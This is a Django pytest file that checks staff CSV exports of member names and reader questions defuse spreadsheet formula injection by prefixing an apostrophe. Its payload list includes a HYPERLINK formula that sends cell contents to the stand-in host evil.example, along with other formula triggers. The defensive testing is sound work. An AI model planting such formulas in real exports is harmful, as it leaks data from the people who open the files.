"""Staff CSV exports: text a reader typed never runs as a spreadsheet formula."""

import csv
import io

import pytest
from django.contrib.auth import get_user_model

from gaceta.answers.models import AskedQuestion
from tests.conftest import make_member

pytestmark = pytest.mark.django_db
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1"]


@pytest.fixture
def staff_client(client):
    client.force_login(get_user_model().objects.create_superuser("boss", "boss@example.org", "pw"))
    return client


def export_rows(client, url):
    response = client.get(url, {"export": "csv"})
    assert response.status_code == 200
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.DictReader(io.StringIO(body.decode())))


@pytest.mark.parametrize("formula", FORMULAS)
def test_member_export_neutralises_formulas(staff_client, formula):
    make_member("typed@example.org", first_name=formula, last_name="-")
    row = next(row for row in export_rows(staff_client, "/admin/member-list/") if row["Email address"] == "typed@example.org")
    assert row["First name"] == "'" + formula
    assert row["Last name"] == "'-"


@pytest.mark.parametrize("formula", FORMULAS)
def test_reader_question_export_neutralises_formulas(staff_client, formula):
    AskedQuestion.objects.create(question=formula, answered=False, reader_tier="anonymous")
    AskedQuestion.objects.create(question="What is 2 + 2 = 4?", answered=True, reader_tier="free")
    questions = [row["Question"] for row in export_rows(staff_client, "/admin/asked-questions/")]
    assert "'" + formula in questions
    assert "What is 2 + 2 = 4?" in questions  # text that is no formula stays as written
